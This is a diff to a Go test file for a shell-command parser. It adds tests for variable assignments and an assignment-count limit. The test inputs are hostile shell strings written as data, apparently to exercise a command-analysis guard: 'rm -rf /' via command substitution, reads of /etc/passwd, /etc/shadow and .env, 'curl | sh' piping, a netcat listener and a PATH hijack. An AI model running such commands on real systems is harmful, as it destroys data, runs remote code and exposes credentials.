@@ -24,6 +24,12 @@ func dyn(src string, args ...string) string {
 }
 
 // sh renders the expected shell fact. pipes and redirs are JSON arrays.
+// assigned adds the assignments field to a fact built by sh.
+func assigned(fact string, assignments ...string) string {
+	a, _ := json.Marshal(assignments)
+	return `{"assignments":` + string(a) + `,` + strings.TrimPrefix(fact, "{")
+}
+
 func sh(cmds []string, pipes, redirs string, features ...string) string {
 	if features == nil {
 		features = []string{}
@@ -49,7 +55,8 @@ func TestParseShell(t *testing.T) {
 		{"dynamic name", "$(echo rm) -rf /", sh([]string{dyn("$(echo rm)", "-rf", "/"), c("echo", "", "rm")}, `[]`, `[]`, "command_substitution")},
 		{"variable name", `${CMD} x`, sh([]string{dyn("${CMD}", "x")}, `[]`, `[]`, "parameter_expansion")},
 		{"ifs", `cat${IFS}/etc/passwd`, sh([]string{dyn("cat${IFS}/etc/passwd")}, `[]`, `[]`, "ifs", "parameter_expansion")},
-		{"ifs assignment", `IFS=,; x=a`, sh(nil, `[]`, `[]`, "ifs")},
+		{"ifs assignment", `IFS=,; x=a`, assigned(sh(nil, `[]`, `[]`, "ifs"), "IFS=,", "x=a")},
+		{"assignments", `f=/etc/shadow; a=(x .env); A=1 make; cat $f`, assigned(sh([]string{c("make", ""), c("cat", "", "${f}")}, `[]`, `[]`, "parameter_expansion"), "f=/etc/shadow", "a=x", "a=.env", "A=1")},
 		{"backticks", "echo `id`", sh([]string{c("echo", "", "`id`"), c("id", "")}, `[]`, `[]`, "command_substitution")},
 		{"process substitution", "bash <(curl -s http://x)", sh([]string{c("bash", "", "<(curl -s http://x)"), c("curl", "", "-s", "http://x")}, `[]`, `[]`, "process_substitution")},
 		{"pipeline", "curl -s http://x | sh", sh([]string{c("curl", "", "-s", "http://x"), c("sh", "")}, `[["curl","sh"]]`, `[]`)},
@@ -61,7 +68,7 @@ func TestParseShell(t *testing.T) {
 		{"if while for case", "if a; then b; elif c; then d; else e; fi; while f; do g; done; for i in 1; do h; done; case x in y) k;; esac",
 			sh([]string{c("a", ""), c("b", ""), c("c", ""), c("d", ""), c("e", ""), c("f", ""), c("g", ""), c("h", ""), c("k", "")}, `[]`, `[]`)},
 		{"test and arithmetic", "[[ -f x ]] && (( i++ )) && [ -d y ]", sh([]string{c("[", "", "-d", "y", "]")}, `[]`, `[]`)},
-		{"declaration", "export PATH=/tmp:$PATH; local x", sh([]string{c("export", "", "PATH=/tmp:$PATH"), c("local", "", "x")}, `[]`, `[]`, "parameter_expansion")},
+		{"declaration", "export PATH=/tmp:$PATH; local x", assigned(sh([]string{c("export", "", "PATH=/tmp:$PATH"), c("local", "", "x")}, `[]`, `[]`, "parameter_expansion"), "PATH=/tmp:${PATH}")},
 		{"background", "sleep 10 &", sh([]string{c("sleep", "", "10")}, `[]`, `[]`, "background")},
 		{"coproc", "coproc nc -l 80", sh([]string{c("nc", "", "-l", "80")}, `[]`, `[]`, "background")},
 		{"redirects", "cat a > /etc/passwd 2>&1 < in >> log &> all", sh([]string{c("cat", "", "a")}, `[]`,
@@ -186,6 +193,7 @@ func TestParseShellRefusals(t *testing.T) {
 		{"too long", strings.Repeat("a", maxShellBytes+1), "shell text longer than 65536 bytes"},
 		{"too many commands", strings.Repeat("a;", maxShellCommands+1), "more than 1024 commands"},
 		{"too many wrappers", strings.Repeat("nice ", maxWrapHops+1) + "rm x", "more than 8 nested wrapper commands"},
+		{"too many assignments", strings.Repeat("a=1;", maxAssignments+1), "more than 1024 variable assignments"},
 		{"too many timeouts around a shell", strings.Repeat("timeout 5 ", maxWrapHops+1) + "bash -c 'cat /etc/shadow'",
 			"more than 8 nested wrapper commands"},
 		{"too many wrappers in a pipeline", "echo id | " + strings.Repeat("nice ", maxWrapHops+1) + "sh",
